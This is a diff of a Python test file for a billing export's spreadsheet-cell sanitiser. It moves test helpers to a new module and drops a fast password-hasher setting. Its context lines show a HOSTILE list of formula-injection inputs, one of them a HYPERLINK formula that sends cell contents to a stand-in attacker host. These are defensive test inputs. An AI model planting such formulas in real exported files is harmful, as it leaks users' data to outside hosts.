@@ -16,7 +16,7 @@ from metering.billing.cells import FORMULA_TRIGGERS, safe_cell
 from metering.billing.models import ExportJob
 from metering.billing.money import format_money, round_money, total_amount
 from tests.factories import make_key
-from tests.test_portal_world import FAST_HASHERS, build_world, price, record, roll_up, this_hour
+from tests.worlds import build_world, price, record, roll_up, this_hour
 
 pytestmark = pytest.mark.django_db
 HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)",
@@ -25,7 +25,6 @@ HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A
 
 @pytest.fixture
 def world(redis_client, settings, tmp_path):
-    settings.PASSWORD_HASHERS = FAST_HASHERS
     settings.MEDIA_ROOT = tmp_path
     return build_world()
 
